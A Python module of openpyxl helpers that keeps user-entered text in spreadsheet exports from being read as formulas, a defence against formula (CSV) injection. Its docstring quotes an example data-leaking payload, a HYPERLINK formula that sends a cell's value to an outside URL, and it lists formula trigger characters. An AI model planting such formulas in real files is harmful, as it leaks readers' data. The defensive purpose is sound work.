"""Spreadsheets for people to open in Excel or LibreOffice: every text a user typed stays text.

openpyxl stores a string that starts with ``=`` as a live formula and a string such as ``#N/A`` as an error
value, so an identification text like ``=HYPERLINK("http://…?leak="&A1,"detail")`` would run in the
reader's spreadsheet program (spreadsheet formula injection). Every export builds its workbook here:

* a text cell is stored as a string (``data_type = "s"``), whatever it starts with, so the reader sees
  exactly the text that was saved, with nothing added or removed (a ``'`` prefix would change the text and
  end up in every copy-paste and re-import);
* a text that starts with a character a spreadsheet program reads as the start of a formula (``=``, ``+``,
  ``-``, ``@``, tab, carriage return) also gets Excel's *quote prefix* style, so it stays text even when a
  reader opens the cell and presses Enter.

Numbers, dates and empty cells are written as they are. A control character that XML 1.0 cannot hold (U+0001
to U+0008, U+000B, U+000C, U+000E to U+001F, e.g. pasted from an old word processor) would make openpyxl refuse
the whole export; it is written as U+FFFD (the replacement character "�"), so the export works and the reader
sees where something unprintable was.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

#: What a spreadsheet program may read as the start of a formula (OWASP "CSV injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: The characters an XLSX (XML 1.0) cell cannot hold; the same set as openpyxl's ``ILLEGAL_CHARACTERS_RE``.
UNSTORABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
REPLACEMENT = "\ufffd"


def storable(value: Any) -> Any:
    """``value`` with the characters XLSX cannot hold replaced by U+FFFD (non-text values unchanged)."""
    if isinstance(value, str) and UNSTORABLE.search(value):
        return UNSTORABLE.sub(REPLACEMENT, value)
    return value


def new_workbook() -> Workbook:
    """An empty workbook (openpyxl is imported only when an export is made)."""
    from openpyxl import Workbook

    return Workbook()


def as_text(cell: Cell) -> None:
    """Make a cell holding a ``str`` a plain string cell (never a formula or an error value)."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if cell.value.startswith(FORMULA_TRIGGERS):
            cell.quotePrefix = True


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)``, with every text cell of the new row kept as text."""
    values = [storable(value) for value in values]
    sheet.append(values)
    if values:
        for cell in sheet[sheet.max_row]:
            as_text(cell)


def set_cell(sheet: Worksheet, *, row: int, column: int, value: Any) -> Cell:
    """Write one cell, a text kept as text."""
    cell = sheet.cell(row=row, column=column, value=storable(value))
    as_text(cell)
    return cell


def to_bytes(book: Workbook) -> bytes:
    """The workbook as the bytes of an ``.xlsx`` file."""
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
